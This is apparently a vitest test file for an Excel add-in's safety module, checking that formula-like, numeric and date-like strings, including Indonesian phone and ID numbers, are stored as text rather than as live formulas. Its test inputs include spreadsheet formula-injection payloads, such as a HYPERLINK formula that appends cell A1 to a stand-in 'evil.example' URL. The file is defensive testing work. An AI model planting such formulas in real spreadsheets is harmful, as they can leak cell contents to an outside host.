import { describe, expect, it } from "vitest";
import { apostrophed, asText, isReinterpreted, writeTextBlock, writeTypedBlock } from "../../../addin/excel/safety";
import { insertTemplate } from "../../../addin/excel/template";
import { referenceData } from "../../../shared/reference/index";
import { formulasOn, useFakeExcel } from "./fake";

const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+62 812 3456 7890", "+6281234567890", "-", "-5", "@x", "=1+1", "0812345678", "3601014101900001", "2026-11-01", "TRUE", "'quoted"];

describe("safety", () => {
  it("knows which strings Excel would turn into something else", () => {
    for (const s of DANGEROUS) expect(isReinterpreted(s), s).toBe(true);
    for (const s of ["Siti Aminah", "dr. Siti, Sp.A", "P1706010101", "STR-123", "SEUMUR HIDUP", ""]) expect(isReinterpreted(s), s).toBe(false);
  });

  it("keeps formula-like, numeric and date-like strings as text in a text block", async () => {
    const fake = useFakeExcel({ sheets: { Data: [] } });
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Data");
      writeTextBlock(sheet.getRangeByIndexes(0, 0, DANGEROUS.length, 1), DANGEROUS.map((s) => [s]));
      await context.sync();
    });
    expect(fake.workbook.valuesAt("Data", `A1:A${DANGEROUS.length}`).map((r) => r[0])).toEqual(DANGEROUS);
    expect(formulasOn(fake, "Data").size).toBe(0);
  });

  it("keeps numbers numeric in a typed block and protects strings there with an apostrophe", async () => {
    const fake = useFakeExcel({ sheets: { Data: [] } });
    await Excel.run(async (context) => {
      const sheet = context.workbook.worksheets.getItem("Data");
      const rows = DANGEROUS.map((s, i) => [s, i % 2 === 0 ? i : s]);
      writeTypedBlock(sheet, 0, 0, rows, [{ kind: "text" }, { kind: "number", format: "#,##0" }]);
      await context.sync();
    });
    const values = fake.workbook.valuesAt("Data", `A1:B${DANGEROUS.length}`);
    DANGEROUS.forEach((s, i) => {
      expect(values[i]![0]).toBe(s);
      expect(values[i]![1]).toBe(i % 2 === 0 ? i : s);
    });
    expect(formulasOn(fake, "Data").size).toBe(0);
    expect(fake.workbook.cellAt("Data", "B2").apostrophe).toBe(true);
  });

  it("writes a value that was text on the sheet back as the same text", () => {
    expect(asText(null)).toBe("");
    expect(asText(3601014101900000)).toBe("3601014101900000");
    expect(asText(false)).toBe("false");
    expect(apostrophed("=SUM(A1)")).toBe("'=SUM(A1)");
    expect(apostrophed("Siti")).toBe("Siti");
    expect(apostrophed(12)).toBe(12);
  });

  it("keeps reference labels from the server as text in the template lists", async () => {
    const fake = useFakeExcel();
    const hostile = structuredClone(referenceData);
    hostile.jenis_tenaga[0]!.label.id = '=HYPERLINK("http://evil.example","Dokter")';
    hostile.status_kepegawaian[0]!.label.id = "+62 PNS";
    await insertTemplate(hostile);
    expect(formulasOn(fake, "Referensi").size).toBe(0);
    expect(fake.workbook.cellAt("Referensi", "D2").value).toBe('=HYPERLINK("http://evil.example","Dokter")');
  });
});
